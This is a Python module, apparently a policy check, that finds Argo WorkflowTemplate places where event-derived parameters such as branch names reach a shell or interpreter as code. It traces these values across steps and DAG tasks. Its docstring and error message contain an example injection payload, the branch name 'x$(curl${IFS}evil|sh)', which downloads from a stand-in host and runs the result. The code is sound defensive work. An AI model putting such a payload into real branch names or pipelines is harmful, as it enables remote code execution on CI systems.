"""Refuses WorkflowTemplates that put event-derived values where a shell or an interpreter parses them as code.

A branch name may be `x$(curl${IFS}evil|sh)`; Argo substitutes `{{workflow.parameters.git_ref}}` as plain text, so a
template that writes it into `script.source` or into the string of `sh -c` runs it. The safe way is the environment:
`env: [{name: GIT_REF, value: "{{workflow.parameters.git_ref}}"}]` and `"$GIT_REF"` in the script, which the shell
never parses. This module finds the unsafe uses at `pulumi preview`, following values that steps and DAG tasks pass on
to other templates' inputs. What it cannot see (a `templateRef` to another WorkflowTemplate, a value written to a file
and read back by `eval`) is the template author's to keep safe; README says so.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from settings.templates import WorkflowTemplateFile

_TAG = re.compile(r"\{\{(.*?)\}\}", re.DOTALL)
_REFERENCE = re.compile(
    r"(?<![A-Za-z0-9_.])(workflow|inputs)\.parameters(?:\.([A-Za-z0-9_-]+)|\[\s*['\"]([^'\"]+)['\"]\s*\])"
)

# Programs that parse an argument as code, and how: shells take the first operand after `-c`; interpreters the
# argument after their "evaluate" flag; awk and sed their first operand (or `-e`'s argument).
_SHELLS = frozenset(
    {"sh", "bash", "rbash", "ash", "dash", "zsh", "ksh", "mksh", "pdksh", "oksh", "yash", "posh", "fish", "csh", "tcsh"}
)
_EVAL_FLAGS: dict[str, frozenset[str]] = {
    "python": frozenset({"-c"}),
    "pypy": frozenset({"-c"}),
    "node": frozenset({"-e", "--eval", "-p", "--print"}),
    "nodejs": frozenset({"-e", "--eval", "-p", "--print"}),
    "deno": frozenset({"eval"}),
    "bun": frozenset({"-e", "--eval", "-p", "--print"}),
    "perl": frozenset({"-e", "-E"}),
    "ruby": frozenset({"-e"}),
    "php": frozenset({"-r"}),
    "lua": frozenset({"-e"}),
    "Rscript": frozenset({"-e"}),
    "pwsh": frozenset({"-c", "-command", "-encodedcommand", "-ec"}),
    "powershell": frozenset({"-c", "-command", "-encodedcommand", "-ec"}),
    "su": frozenset({"-c", "--command"}),
}
_PROGRAM_IS_FIRST_OPERAND = frozenset({"awk", "gawk", "mawk", "nawk", "sed", "gsed", "jq"})
# Programs that run the rest of their arguments as another command (`env A=b sh -c ...`, `busybox sh -c ...`).
_WRAPPERS = frozenset(
    {"env", "nice", "nohup", "exec", "timeout", "stdbuf", "tini", "dumb-init", "busybox", "xargs", "time", "command",
     "setsid", "sudo", "doas", "ionice", "chrt", "taskset", "unbuffer", "catatonit"}
)
_WRAPPER_OPTIONS_WITH_VALUE = frozenset({"-u", "-n", "-s", "-k", "-c", "-p", "-g", "-C", "-S", "-I", "-L", "-P"})
_ITEM = re.compile(r"\{\{\s*=?\s*item\b")
_VERSIONED = re.compile(r"^(python|pypy|perl|ruby|php|lua|node)[0-9.]*$")

FIX = (
    "pass it through the environment instead, e.g. env: [{name: GIT_REF, value: '{{workflow.parameters.git_ref}}'}] "
    'and "$GIT_REF" in the script (the shell never parses a variable\'s value as code)'
)


@dataclass(frozen=True)
class _Taint:
    """An input of a template that carries an event-derived value, and which workflow parameter it came from."""

    origin: str


def injection_problems(template: WorkflowTemplateFile, event_derived: Iterable[str]) -> list[str]:
    """Every place in the file where an event-derived parameter reaches code, in words with the fix."""
    tainted_workflow = frozenset(event_derived)
    if not tainted_workflow:
        return []
    spec = template.document.get("spec") or {}
    templates = {str(t.get("name")): t for t in spec.get("templates") or [] if isinstance(t, Mapping)}
    inputs = _tainted_inputs(templates, str(spec.get("entrypoint")), tainted_workflow)
    problems: list[str] = []
    for name, body in templates.items():
        for where, text, code_of in _code_places(body):
            for parameter, shown in _references(text, tainted_workflow, inputs.get(name, {})):
                problems.append(
                    f"template {name!r}: {where} puts the event-derived parameter {parameter!r} ({shown}) into "
                    f"{code_of}, which parses it as code (a branch named x$(curl${{IFS}}evil|sh) would run); {FIX}"
                )
    return problems


def _references(
    text: str, tainted_workflow: frozenset[str], tainted_inputs: Mapping[str, _Taint]
) -> Iterator[tuple[str, str]]:
    """(event-derived parameter, how it is referenced) for each tainted reference inside `{{...}}` in `text`."""
    for tag in _TAG.finditer(text):
        for match in _REFERENCE.finditer(tag.group(1)):
            scope, name = match.group(1), match.group(2) or match.group(3)
            if scope == "workflow" and name == "json":  # all workflow parameters as one JSON document
                for parameter in sorted(tainted_workflow):
                    yield parameter, tag.group(0)
            elif scope == "workflow" and name in tainted_workflow:
                yield name, tag.group(0)
            elif scope == "inputs" and name in tainted_inputs:
                origin = tainted_inputs[name].origin
                shown = tag.group(0) if origin == name else f"{tag.group(0)}, fed from {origin!r}"
                yield origin, shown


def _tainted_inputs(
    templates: Mapping[str, Mapping[str, Any]], entrypoint: str, tainted_workflow: frozenset[str]
) -> dict[str, dict[str, _Taint]]:
    """Template inputs that carry event-derived values: the entrypoint's (filled from the Workflow's arguments),
    defaults that reference them, and whatever steps, DAG tasks and hooks pass on; repeated until nothing changes."""
    tainted: dict[str, dict[str, _Taint]] = {name: {} for name in templates}
    entry = templates.get(entrypoint, {})
    for parameter in _parameters(entry.get("inputs")):
        if parameter.get("name") in tainted_workflow:
            tainted.setdefault(entrypoint, {})[str(parameter["name"])] = _Taint(str(parameter["name"]))
    changed = True
    while changed:
        changed = False
        for name, body in templates.items():
            for parameter in _parameters(body.get("inputs")):
                for key in ("value", "default"):
                    origin = _first_origin(parameter.get(key), tainted_workflow, tainted[name])
                    if origin and parameter.get("name") not in tainted[name]:
                        tainted[name][str(parameter["name"])] = _Taint(origin)
                        changed = True
            for callee, arguments, loop in _calls(body):
                if callee not in tainted:
                    continue  # a templateRef or an unknown name: nothing to follow here
                # `withParam: "{{workflow.parameters.X}}"` makes every `{{item}}` of the step event-derived.
                item_origin = _first_origin(loop, tainted_workflow, tainted[name])
                for argument in _parameters(arguments):
                    origin = _first_origin(argument.get("value"), tainted_workflow, tainted[name])
                    if origin is None and item_origin and _ITEM.search(str(argument.get("value", ""))):
                        origin = item_origin
                    if origin and argument.get("name") not in tainted[callee]:
                        tainted[callee][str(argument["name"])] = _Taint(origin)
                        changed = True
    return tainted


def _first_origin(value: Any, tainted_workflow: frozenset[str], tainted_inputs: Mapping[str, _Taint]) -> str | None:
    if not isinstance(value, str):
        return None
    return next((parameter for parameter, _ in _references(value, tainted_workflow, tainted_inputs)), None)


def _parameters(holder: Any) -> list[Mapping[str, Any]]:
    if not isinstance(holder, Mapping):
        return []
    return [parameter for parameter in holder.get("parameters") or [] if isinstance(parameter, Mapping)]


def _calls(body: Mapping[str, Any]) -> Iterator[tuple[str, Any, Any]]:
    """(called template name, its arguments, its withParam) for every step, DAG task and hook of a template."""
    for group in body.get("steps") or []:
        for step in group if isinstance(group, list) else [group]:
            if isinstance(step, Mapping):
                yield from _call(step)
    for task in (body.get("dag") or {}).get("tasks") or []:
        if isinstance(task, Mapping):
            yield from _call(task)


def _call(step: Mapping[str, Any]) -> Iterator[tuple[str, Any, Any]]:
    if isinstance(step.get("template"), str):
        yield step["template"], step.get("arguments"), step.get("withParam")
    for hook in (step.get("hooks") or {}).values():
        if isinstance(hook, Mapping) and isinstance(hook.get("template"), str):
            yield hook["template"], hook.get("arguments"), None


def _code_places(body: Mapping[str, Any]) -> Iterator[tuple[str, str, str]]:
    """(where, text, what parses it) for every string of a template that a shell or interpreter runs as code."""
    script = body.get("script")
    if isinstance(script, Mapping) and isinstance(script.get("source"), str):
        yield "script.source", script["source"], "the script's source"
    for where, container in _containers(body):
        yield from _argv_places(where, container)
        for probe in ("livenessProbe", "readinessProbe", "startupProbe"):
            exec_ = (container.get(probe) or {}).get("exec") or {}
            yield from _argv_places(f"{where}.{probe}.exec", exec_)
        for hook in ("postStart", "preStop"):
            exec_ = ((container.get("lifecycle") or {}).get(hook) or {}).get("exec") or {}
            yield from _argv_places(f"{where}.lifecycle.{hook}.exec", exec_)


def _containers(body: Mapping[str, Any]) -> Iterator[tuple[str, Mapping[str, Any]]]:
    for key in ("container", "script"):
        if isinstance(body.get(key), Mapping):
            yield key, body[key]
    for key in ("initContainers", "sidecars"):
        for index, container in enumerate(body.get(key) or []):
            if isinstance(container, Mapping):
                yield f"{key}[{container.get('name', index)}]", container
    for index, container in enumerate((body.get("containerSet") or {}).get("containers") or []):
        if isinstance(container, Mapping):
            yield f"containerSet.containers[{container.get('name', index)}]", container


def _argv_places(where: str, holder: Mapping[str, Any]) -> Iterator[tuple[str, str, str]]:
    command = [str(item) for item in holder.get("command") or []]
    args = [str(item) for item in holder.get("args") or []]
    # Without `command` the image's entrypoint runs `args`; most images used this way run them as the command.
    argv = command + args
    for index, program in code_positions(argv):
        if index < len(command):
            yield f"{where}.command[{index}]", command[index], program
        else:
            yield f"{where}.args[{index - len(command)}]", args[index - len(command)], program


def _program(word: str) -> str:
    name = word.rsplit("/", 1)[-1]
    versioned = _VERSIONED.match(name)
    return versioned.group(1) if versioned else name


def code_positions(argv: Sequence[str]) -> list[tuple[int, str]]:
    """Indexes of `argv` that are parsed as code (the program name included), each with what parses it."""
    index = _skip_wrappers(argv, 0)
    if index >= len(argv):
        return []
    positions = [(index, "the command name")]
    program = _program(argv[index])
    if program in _SHELLS:
        positions.extend(_shell_code(argv, index + 1, f"{program} -c"))
    elif program in _EVAL_FLAGS:
        positions.extend(_eval_code(argv, index + 1, program, _EVAL_FLAGS[program]))
    elif program in _PROGRAM_IS_FIRST_OPERAND:
        positions.extend(_first_operand_code(argv, index + 1, program))
    return positions


def _skip_wrappers(argv: Sequence[str], index: int) -> int:
    while index < len(argv) and _program(argv[index]) in _WRAPPERS:
        wrapper = _program(argv[index])
        index += 1
        while index < len(argv):
            word = argv[index]
            if word == "--":
                index += 1
                break
            if word.startswith("-") and len(word) > 1:
                index += 2 if word in _WRAPPER_OPTIONS_WITH_VALUE else 1
            elif _wrapper_operand(wrapper, word):
                index += 1  # env's NAME=VALUE, timeout's duration, nice's priority: not parsed as code
            else:
                break
    return index


def _wrapper_operand(wrapper: str, word: str) -> bool:
    if wrapper == "env":
        return "=" in word
    if wrapper == "timeout":
        return re.match(r"^[0-9.]+[smhd]?$", word) is not None
    return wrapper in ("nice", "chrt", "taskset") and re.match(r"^[0-9a-fx,-]+$", word) is not None


def _shell_code(argv: Sequence[str], index: int, what: str) -> list[tuple[int, str]]:
    """`sh [options] -c COMMAND [name [args...]]`: COMMAND is parsed; without -c the operand is a script path."""
    has_command = False
    while index < len(argv):
        word = argv[index]
        if word == "--":
            index += 1
            break
        if word in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
            index += 2
        elif word.startswith("--"):
            index += 1
        elif (word.startswith("-") or word.startswith("+")) and len(word) > 1:
            has_command = has_command or (word[0] == "-" and "c" in word[1:])
            index += 2 if word[-1] == "o" and word[0] == "-" else 1
        else:
            break
    if index >= len(argv):
        return []
    return [(index, what)] if has_command else [(index, "the shell's script path")]


def _eval_code(argv: Sequence[str], index: int, program: str, flags: frozenset[str]) -> list[tuple[int, str]]:
    while index < len(argv):
        word = argv[index]
        if word.lower() in flags or word in flags:
            return [(index + 1, f"{program} {word}")] if index + 1 < len(argv) else []
        short = next((flag for flag in flags if len(flag) == 2 and word.startswith(flag) and len(word) > 2), None)
        if short:
            return [(index, f"{program} {short}")]  # `-cCODE`: the code is glued to the flag
        if not word.startswith("-"):
            return [(index, f"{program}'s script path")]
        index += 1
    return []


def _first_operand_code(argv: Sequence[str], index: int, program: str) -> list[tuple[int, str]]:
    positions: list[tuple[int, str]] = []
    while index < len(argv):
        word = argv[index]
        if word in ("-e", "--expression"):
            positions.append((index + 1, f"{program} {word}"))
            index += 2
        elif word in ("-f", "--file"):
            return positions
        elif word in ("-F", "-v", "--arg", "--argjson"):
            index += 2 if word != "--arg" and word != "--argjson" else 3
        elif word.startswith("-") and len(word) > 1:
            index += 1
        else:
            return positions or [(index, f"{program}'s program text")]
    return [position for position in positions if position[0] < len(argv)]
